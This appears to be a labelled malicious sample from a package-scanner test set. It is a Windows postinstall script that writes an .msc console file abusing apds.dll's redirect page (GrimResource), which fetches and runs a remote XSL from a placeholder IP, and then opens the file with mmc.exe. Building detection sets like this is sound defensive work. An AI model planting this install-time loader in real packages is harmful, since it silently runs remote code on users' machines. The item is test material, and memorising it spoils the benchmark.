// when: install
// expect: malicious
// source: blind set 44's event-log views package: a postinstall that writes a console whose view runs JavaScript
// through apds.dll's redirect page (GrimResource) and opens it with mmc.exe
const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
if (process.platform === 'win32') {
  const js = 'var x=external.Document.ActiveView.ControlObject;x.async=false;x.load("http://192.0.2.144/v.xsl");x.transformNode(x);';
  const msc = path.join(os.tmpdir(), 'EventViews.msc');
  fs.writeFileSync(msc, `<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><StringTable><Strings>
<String ID="2" Refs="1">res://apds.dll/redirect.html?target=javascript:eval("${js.replace(/"/g, '&quot;')}")</String>
</Strings></StringTable></StringTables></MMC_ConsoleFile>`);
  spawn('mmc.exe', [msc], { detached: true, stdio: 'ignore' }).unref();
}
